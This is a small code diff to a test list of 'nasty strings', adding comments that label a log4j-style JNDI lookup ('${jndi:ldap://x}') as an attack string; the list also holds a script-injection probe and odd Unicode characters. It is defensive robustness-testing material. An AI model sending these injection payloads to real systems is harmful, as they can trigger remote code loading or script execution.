@@ -12,6 +12,8 @@ const NASTY_STRINGS = [
   '\u0000',
   '\uFEFF',
   '🙂',
+  // A log4j-style lookup, sent as plain text.
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the attack
   '${jndi:ldap://x}',
   '<script>alert(1)</script>',
   'NaN',
